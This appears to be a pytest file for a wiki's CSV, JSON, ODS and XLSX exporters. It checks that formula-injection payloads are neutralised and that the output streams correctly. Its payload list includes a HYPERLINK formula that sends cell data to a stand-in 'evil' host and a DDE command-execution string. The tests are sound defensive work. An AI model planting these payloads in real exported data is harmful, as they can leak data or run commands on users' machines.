"""Pure writers: columns from fields, CSV flavours, streamed JSON, ODS and XLSX."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from wiki.exports import columns as cols
from wiki.exports import spreadsheets
from wiki.exports import tabular
from wiki.records.schema import FieldDef

# HOSTILE_INPUTS B8-71, the OWASP CSV-injection payloads.
PAYLOADS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_csv_neutralizes_every_formula_start(payload):
    body = b"".join(tabular.rows_to_csv(["a"], [[payload]], spreadsheet=True)).decode("utf-8")
    assert body.startswith("\ufeff")
    (cell,) = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))[1]
    assert cell == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_canonical_csv_is_byte_faithful(payload):
    body = b"".join(tabular.rows_to_csv(["a"], [[payload]])).decode("utf-8")
    assert list(csv.reader(io.StringIO(body)))[1] == [payload]


def test_plain_text_is_left_alone():
    assert tabular.neutralize("Ferme du Pâtis") == "Ferme du Pâtis" and tabular.neutralize("") == ""


def test_csv_streams_in_chunks():
    chunks = list(tabular.rows_to_csv(["n"], ([str(i)] for i in range(1200))))
    assert len(chunks) == 3
    assert len(list(csv.reader(io.StringIO(b"".join(chunks).decode())))) == 1201


def test_json_stream_is_one_valid_document():
    records = ({"id": i, "title": f"<b>{i}</b>"} for i in range(1001))
    doc = json.loads(b"".join(tabular.records_to_json({"key": "k"}, records, lambda: [{"id": 9, "removed_at": "x"}])))
    assert (
        len(doc["records"]) == 1001
        and doc["records"][0]["title"] == "<b>0</b>"
        and doc["deleted"] == [{"id": 9, "removed_at": "x"}]
    )
    assert json.loads(b"".join(tabular.records_to_json({}, iter(())))) == {"dataset": {}, "records": []}


def _field(**kw):
    return FieldDef.from_dict({"id": "f_000000aa", "key": "x", "type": "text", "label": "X"} | kw)


def test_schedule_becomes_one_column_per_part_and_names_stay_unique():
    fields = [_field(type="schedule", key="horaire"), _field(id="f_000000bb", key="horaire_debut")]
    names = [c.name for c in cols.columns_for(fields, {})]
    assert names == ["id", "horaire_debut", "horaire_fin", "horaire_toute_la_journee", "horaire_fuseau_horaire", "horaire_recurrence",
                     "horaire_exceptions", "horaire_debut_2", "updated_at", "verified_at"]  # fmt: skip


def test_cell_text_writes_canonical_values():
    column = cols.Column("x", "X", "", "string")
    assert [cols.cell_text(column, v) for v in (None, True, False, 12.5, 3, ["a", "b"], {"type": "Point", "coordinates": [1, 2]})] == [
        "", "true", "false", "12.5", "3", "a;b", '{"type":"Point","coordinates":[1,2]}']  # fmt: skip


def test_ods_escapes_markup_and_drops_characters_xml_forbids():
    from odf import opendocument
    from odf import table

    body = b"".join(spreadsheets.rows_to_ods("Fermes <&>", ["a", "b"], [['<x>&\x01"é', 2.5], [None, True]]))
    archive = zipfile.ZipFile(io.BytesIO(body))
    assert archive.getinfo("mimetype").compress_type == zipfile.ZIP_STORED
    doc = opendocument.load(io.BytesIO(body))
    (sheet,) = doc.spreadsheet.getElementsByType(table.Table)
    assert sheet.getAttribute("name") == "Fermes <&>"
    rows = sheet.getElementsByType(table.TableRow)
    assert len(rows) == 3
    first = rows[1].getElementsByType(table.TableCell)
    assert str(first[0]) == '<x>&"é' and first[1].getAttribute("value") == "2.5"
    assert rows[2].getElementsByType(table.TableCell)[1].getAttribute("booleanvalue") == "true"


def test_xlsx_never_stores_a_formula(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "x.xlsx"
    path.write_bytes(b"".join(spreadsheets.rows_to_xlsx("A/B:C*?", ["a"], [[p] for p in PAYLOADS])))
    sheet = load_workbook(path).active
    assert sheet.title == "A B C"
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))
    assert all(v.startswith("'") for v in values)
    assert values == ["'" + p for p in PAYLOADS]  # carriage returns included


def test_xlsx_streams_typed_cells_past_column_z():
    from openpyxl import load_workbook

    header = [f"c{i}" for i in range(30)]
    rows = [[True, 2.5, 7, None, "  espacé  ", "é<&>", *range(24)], [False] + [""] * 29]
    chunks = list(spreadsheets.rows_to_xlsx("Données", header, iter(rows)))
    assert chunks[0].startswith(b"PK") and len(chunks) >= 1
    sheet = load_workbook(io.BytesIO(b"".join(chunks))).active
    assert sheet.title == "Données" and sheet["AD1"].value == "c29"
    assert [sheet[f"{c}2"].value for c in "ABCDEF"] == [True, 2.5, 7, None, "  espacé  ", "é<&>"]
    assert sheet["AD2"].value == 23 and sheet["A3"].value is False and sheet.max_row == 3


def test_xlsx_first_bytes_leave_before_the_last_row_is_read():
    produced = []

    def rows():
        for n in range(5_000):
            produced.append(n)
            yield [n, f"ligne {n}"]

    stream = spreadsheets.rows_to_xlsx("x", ["n", "texte"], rows())
    next(stream)
    assert len(produced) < 5_000  # streamed, not spooled
